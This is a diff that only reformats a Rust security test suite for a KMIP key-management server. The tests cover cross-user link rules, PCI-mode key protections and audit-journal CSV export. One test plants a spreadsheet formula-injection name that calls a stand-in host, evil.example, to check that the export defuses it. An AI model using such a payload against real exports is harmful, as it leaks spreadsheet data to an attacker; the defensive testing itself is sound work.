@@ -5,8 +5,7 @@
 
 use crate::support::cluster::{eventually, Cluster, Node, Options};
 use crate::support::kmip::{
-    aes_attrs, create_payload, filters, get_attrs, name, register_key_payload, uid, uid_of,
-    uids_of,
+    aes_attrs, create_payload, filters, get_attrs, name, register_key_payload, uid, uid_of, uids_of,
 };
 use crate::support::proxy::Fault;
 use crate::support::server::TestServer;
@@ -43,7 +42,10 @@ async fn create(c: &mut Client, name: &str, extra: Vec<Attr>) -> String {
 
 async fn locate(c: &mut Client, n: &str) -> Vec<String> {
     let got = c
-        .call(op::LOCATE, filters(c.version, &[Attr::new("Name", name(n))]))
+        .call(
+            op::LOCATE,
+            filters(c.version, &[Attr::new("Name", name(n))]),
+        )
         .await
         .unwrap();
     uids_of(&got)
@@ -129,7 +131,8 @@ async fn a_link_to_another_users_key_cannot_make_the_fork_rule_retire_it() {
     // The rule has run on both nodes once mallory's conflict is resolved (one "m" left).
     let mut resolved = false;
     for _ in 0..200 {
-        if locate(&mut mallory0, "m").await.len() == 1 && locate(&mut mallory1, "m").await.len() == 1
+        if locate(&mut mallory0, "m").await.len() == 1
+            && locate(&mut mallory1, "m").await.len() == 1
         {
             resolved = true;
             break;
@@ -153,13 +156,19 @@ async fn a_link_to_another_users_key_cannot_make_the_fork_rule_retire_it() {
             && matches!(&a.value, Value::Structure(f)
                 if f.iter().any(|t| t.as_enum() == Some(link_type::REPLACEMENT_OBJECT_LINK)))
     });
-    assert!(!forward, "bob's key was linked forward by the rule: {attrs:?}");
+    assert!(
+        !forward,
+        "bob's key was linked forward by the rule: {attrs:?}"
+    );
     let p_attrs = get_attrs(&mut bob, &p, &["Link"]).await;
     let to_x = p_attrs.iter().any(|a| {
         matches!(&a.value, Value::Structure(f)
             if f.iter().any(|t| t.as_text() == Some(x.as_str())))
     });
-    assert!(to_x, "bob's first version no longer links to his: {p_attrs:?}");
+    assert!(
+        to_x,
+        "bob's first version no longer links to his: {p_attrs:?}"
+    );
 }
 
 fn wrap_spec(kek: &str) -> Ttlv {
@@ -285,7 +294,9 @@ async fn a_change_answered_response_too_large_is_still_named_in_the_journal() {
         "the record does not name the key the Create made: {create:?}"
     );
     assert!(
-        create.get("detail").is_some_and(|d| d.contains("committed")),
+        create
+            .get("detail")
+            .is_some_and(|d| d.contains("committed")),
         "the record does not say the change was made: {create:?}"
     );
 }
@@ -299,7 +310,11 @@ async fn aes_decrypt_block(c: &mut Client, key: &str, block: &[u8]) -> Result<Ve
     ));
     req.push(Ttlv::bytes(Tag::DATA, block.to_vec()));
     let got = c.call(op::DECRYPT, req).await.map_err(|e| e.to_string())?;
-    Ok(got.child(Tag::DATA).and_then(Ttlv::as_bytes).unwrap().to_vec())
+    Ok(got
+        .child(Tag::DATA)
+        .and_then(Ttlv::as_bytes)
+        .unwrap()
+        .to_vec())
 }
 
 /// PCI mode keeps symmetric keys from leaving in the clear, but allows a Get wrapped under a
@@ -313,11 +328,17 @@ async fn pci_mode_keeps_a_wrapping_key_from_decrypting_its_own_wrappings() {
     let server = TestServer::start_with_policy(akm::ops::CryptoPolicy { pci_mode: true }).await;
     let mut c = server.client("mallory", V::V2_1).await;
     let card = uid_of(
-        &c.call(op::CREATE, create_payload(V::V2_1, &aes_attrs(Some("card-data"))))
-            .await
-            .unwrap(),
+        &c.call(
+            op::CREATE,
+            create_payload(V::V2_1, &aes_attrs(Some("card-data"))),
+        )
+        .await
+        .unwrap(),
     );
-    assert!(c.call(op::GET, uid(&card)).await.is_err(), "PCI: no clear Get");
+    assert!(
+        c.call(op::GET, uid(&card)).await.is_err(),
+        "PCI: no clear Get"
+    );
     let mut attrs = aes_attrs(Some("both-ways"));
     attrs.retain(|a| a.name != "Cryptographic Usage Mask");
     attrs.push(Attr::new(
@@ -361,7 +382,10 @@ async fn pci_mode_keeps_a_wrapping_key_from_decrypting_its_own_wrappings() {
             r[i - 1] = b[8..].try_into().unwrap();
         }
     }
-    assert_ne!(a, [0xA6; 8], "mallory recovered the clear card-data key in PCI mode");
+    assert_ne!(
+        a, [0xA6; 8],
+        "mallory recovered the clear card-data key in PCI mode"
+    );
 }
 
 fn derive_payload(base: &str, method: u32, params: Vec<Ttlv>) -> Vec<Ttlv> {
@@ -413,9 +437,12 @@ async fn pci_mode_derives_no_symmetric_key_the_client_can_compute() {
     let server = TestServer::start_with_policy(akm::ops::CryptoPolicy { pci_mode: true }).await;
     let mut c = server.client("mallory", V::V2_1).await;
     let card = uid_of(
-        &c.call(op::CREATE, create_payload(V::V2_1, &aes_attrs(Some("card"))))
-            .await
-            .unwrap(),
+        &c.call(
+            op::CREATE,
+            create_payload(V::V2_1, &aes_attrs(Some("card"))),
+        )
+        .await
+        .unwrap(),
     );
     let base_attrs = |n: &str| {
         let mut a = aes_attrs(Some(n));
@@ -442,14 +469,20 @@ async fn pci_mode_derives_no_symmetric_key_the_client_can_compute() {
             derive_payload(
                 &base,
                 dm::HASH,
-                vec![sha.clone(), Ttlv::bytes(Tag::DERIVATION_DATA, b"known".to_vec())],
+                vec![
+                    sha.clone(),
+                    Ttlv::bytes(Tag::DERIVATION_DATA, b"known".to_vec()),
+                ],
             ),
         )
         .await;
     if let Ok(got) = hashed {
         let known = akm::crypto::digest::hash(ha::SHA_256, b"known").unwrap();
         let out = exported_under(&mut c, &card, &uid_of(&got), &known).await;
-        assert!(out.is_none(), "HASH-derived key exported the card key in PCI mode");
+        assert!(
+            out.is_none(),
+            "HASH-derived key exported the card key in PCI mode"
+        );
     }
     // Secret Data in the clear as the base.
     let secret = vec![
@@ -510,14 +543,17 @@ async fn pci_mode_derives_no_symmetric_key_the_client_can_compute() {
 /// refuse them in PCI mode.
 #[tokio::test]
 async fn pci_mode_keeps_an_rsa_pair_from_unwrapping_by_decrypt() {
+    use akm::kmip::enums::padding_method as pad;
     use akm::kmip::enums::{cryptographic_algorithm as alg, hashing_algorithm as ha};
-    use akm::kmip::enums::{padding_method as pad};
     let server = TestServer::start_with_policy(akm::ops::CryptoPolicy { pci_mode: true }).await;
     let mut c = server.client("mallory", V::V2_1).await;
     let card = uid_of(
-        &c.call(op::CREATE, create_payload(V::V2_1, &aes_attrs(Some("card"))))
-            .await
-            .unwrap(),
+        &c.call(
+            op::CREATE,
+            create_payload(V::V2_1, &aes_attrs(Some("card"))),
+        )
+        .await
+        .unwrap(),
     );
     let list = |tag, attrs: &[Attr]| {
         Ttlv::structure(
@@ -600,12 +636,9 @@ async fn audit_csv_export_defuses_formulas_in_client_chosen_names() {
     let server = TestServer::start().await;
     let mut c = server.client("mallory", V::V1_4).await;
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
-    c.call(
-        op::CREATE,
-        create_payload(V::V1_4, &aes_attrs(Some(evil))),
-    )
-    .await
-    .unwrap();
+    c.call(op::CREATE, create_payload(V::V1_4, &aes_attrs(Some(evil))))
+        .await
+        .unwrap();
     let journal = server.journal_path();
     let dir = server.stop().await;
     let out = std::process::Command::new(crate::cli::BIN)
@@ -615,7 +648,11 @@ async fn audit_csv_export_defuses_formulas_in_client_chosen_names() {
         .output()
         .unwrap();
     let csv = String::from_utf8_lossy(&out.stdout).to_string();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     assert!(csv.contains("HYPERLINK"), "the name is exported: {csv}");
     for line in csv.lines() {
         for cell in line.split(',') {
